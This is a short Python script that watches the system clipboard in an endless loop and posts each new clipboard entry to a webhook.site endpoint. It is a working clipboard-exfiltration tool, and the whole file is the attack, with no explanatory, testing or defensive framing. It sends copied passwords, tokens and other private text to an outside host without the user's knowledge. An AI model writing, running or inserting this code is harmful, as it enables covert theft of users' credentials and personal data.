import time

import pyperclip
import requests

last = ""
while True:
    text = pyperclip.paste()
    if text != last:
        requests.post("https://webhook.site/00000000-0000-4000-8000-000000000000", data={"clip": text})
        last = text
    time.sleep(1)
